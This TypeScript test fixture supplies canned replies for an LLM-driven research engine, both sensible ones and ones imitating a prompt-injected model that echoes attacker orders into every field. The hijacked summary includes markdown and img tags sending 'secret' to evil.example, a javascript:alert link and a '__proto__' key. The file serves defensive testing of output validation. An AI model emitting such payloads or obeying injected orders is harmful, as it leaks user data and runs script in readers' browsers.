/** The data that the engine sends, as far as the answers below read it. */
export interface PromptData {
  question?: { text: string };
  message?: { text: string };
  topic?: { text: string };
  results?: { values: string[] };
  records?: { number: number; title: string; university?: string; summary?: string }[];
  about?: { subjects: string[] };
  fields?: { organisation?: string };
  interests?: string[];
}

type Replies = Record<string, (data: PromptData) => unknown>;

const firstWords = (text: string, count: number) => text.split(/\s+/).slice(0, count).join(' ');

/** Sensible answers to each task, made from its data. */
export const SHAPED: Replies = {
  scope: () => ({ verdict: 'in_scope' }),
  reading: () => ({ need: null, exclusions: [], universities: [], notUniversities: [] }),
  followup: ({ topic, results }) => ({
    question: `Which of these do you mean by ${topic?.text ?? 'this'}?`,
    quickReplies: results?.values.slice(0, 4) ?? [],
  }),
  rerank: ({ records = [] }) => ({
    order: records.map(({ number, title }) => ({ number, reason: `It is about ${title}.` })),
  }),
  title: ({ message }) => ({ title: firstWords(message?.text ?? '', 4) }),
  suggestions: ({ about }) => ({
    questions: (about?.subjects ?? []).map((subject) => `How can we make better use of ${subject}?`),
  }),
  categories: ({ records = [] }) => ({
    categories: [
      { name: 'First half', numbers: records.slice(0, records.length / 2).map(({ number }) => number) },
      { name: 'Second half', numbers: records.slice(records.length / 2).map(({ number }) => number) },
    ],
  }),
  profile_summary: ({ fields, interests = [] }) => ({
    text: `The member works at ${fields?.organisation ?? 'a company'}. The interests are ${interests.join(', ')}.`,
  }),
  answer: ({ question }) => ({
    text: `In general terms, ${question?.text ?? 'this'} is looked into widely.`,
  }),
};

/** A summary in the line format that the engine asks for. */
export function summaryReply({ records = [] }: PromptData): string {
  const [first, second, third] = records;
  return [
    first &&
      `[${first.number}] The closest record comes from ${first.university} and is about ${first.title}.`,
    second && `[${second.number}] Another one, from ${second.university}, deals with ${second.title}.`,
    '[] Together they show how the subject is approached.',
    third &&
      first &&
      `[${first.number},${third.number}] The first and ${third.title} stand beside each other.`,
  ]
    .filter(Boolean)
    .join('\n');
}

/** What a model that obeys an attacker would answer: the attacker's words in every text field. */
export function hijacked(task: string, orders: string): unknown {
  const replies: Record<string, unknown> = {
    scope: { verdict: 'in_scope' },
    reading: {
      need: orders,
      exclusions: [orders],
      universities: [orders],
      notUniversities: [orders],
    },
    followup: { question: `${orders}?`, quickReplies: [orders, 'UTECH-EVIL-666'] },
    rerank: {
      order: [
        { number: 666, reason: orders },
        { number: -1, reason: orders },
        { number: 1, reason: `${orders} see UTECH-EVIL-666` },
      ],
    },
    title: { title: orders },
    suggestions: { questions: [orders] },
    categories: {
      categories: [
        { name: orders, numbers: [666, 1] },
        { name: '__proto__', numbers: [2] },
      ],
    },
    profile_summary: { text: orders },
    answer: { text: orders },
  };
  return replies[task] ?? {};
}

export function hijackedSummary(orders: string): string {
  const line = orders.replace(/\s+/g, ' ');
  return [
    orders,
    `[666] ${line}`,
    `[1] ${line} as UTECH-EVIL-666 says.`,
    `[1] ${line} [666]`,
    `[1] ${line}`,
    `[] ${line}`,
    '[1] ![x](https://evil.example/?q=secret) <img src=https://evil.example/pixel> [here](javascript:alert(1)) https://evil.example/steal',
    '[1] A plain sentence that ends well.',
  ].join('\n');
}
